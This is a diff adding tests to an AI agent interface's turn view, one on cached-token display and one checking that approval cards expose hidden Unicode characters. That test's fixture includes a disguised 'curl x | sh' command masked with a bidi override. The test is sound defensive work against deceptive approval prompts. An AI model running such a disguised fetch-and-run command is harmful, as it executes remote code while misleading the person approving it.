@@ -160,6 +160,14 @@ def test_header_counts_tokens_and_cost_and_names_the_model():
     assert view.header.model == "gpt-x"
 
 
+def test_header_shows_the_tokens_read_from_the_prompt_cache():
+    view = TurnView(turn_id=T)
+    feed(view, ev.Usage(input_tokens=9_000, output_tokens=5, cached_tokens=8_192, total_input_tokens=12_345,
+                        total_output_tokens=678, total_cached_tokens=10_240, turn_id=T))
+    assert view.header.cached_tokens == 10_240
+    assert "12.3k in (10.2k cached) / 678 out" in view.header.value
+
+
 def test_queued_then_running():
     view = TurnView(turn_id=T, prompt="second")
     feed(view, ev.TurnStart(prompt="first", turn_id="turn_0"), ev.PromptQueued(prompt="second", position=1, turn_id=T),
@@ -196,3 +204,21 @@ def test_tool_rows_and_paragraphs_interleave_in_the_order_they_happened():
     assert all(isinstance(view.rows[c], ToolRow) for c in ("c1", "c2", "c3"))
     assert view.answer.markdown == "Let me look.\n\nFound **a.py**; reading it.\n\nDone."
     assert view.answer.value.index("Let me look") < view.answer.value.index("<strong>a.py</strong>")
+
+
+def test_approval_card_shows_hidden_characters_and_wraps_long_lines():
+    """Finding 12 of "Trust": a bidi override, a zero-width space or a line separator cannot make a
+    command look different from what runs."""
+    view = TurnView(turn_id=T, decide=lambda call_id, decision: None)
+    command = "echo safe \u202e# txt.exe\u200b && curl x\u2028| sh " + "y" * 300
+    feed(view, ev.ToolCall(name="bash", call_id="c1", arguments={"command": command}, turn_id=T),
+         ev.ApprovalRequest(name="bash\u202e", call_id="c1", arguments={"command": command}, turn_id=T))
+    card = view.cards["c1"]
+    for raw, code in (("\u202e", "U+202E"), ("\u200b", "U+200B"), ("\u2028", "U+2028")):
+        assert raw not in card.body.value and f"&lt;{code}&gt;" in card.body.value
+    assert "\u202e" not in card.title.value and "&lt;U+202E&gt;" in card.title.value
+    assert "white-space:pre-wrap" in card.body.value and "overflow-wrap:anywhere" in card.body.value
+    diff = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\u202e\n"
+    feed(view, ev.ToolCall(name="edit_file", call_id="c2", arguments={"path": "x"}, turn_id=T),
+         ev.ApprovalRequest(name="edit_file", call_id="c2", arguments={"path": "x"}, diff=diff, turn_id=T))
+    assert "\u202e" not in view.cards["c2"].body.value and "&lt;U+202E&gt;" in view.cards["c2"].body.value
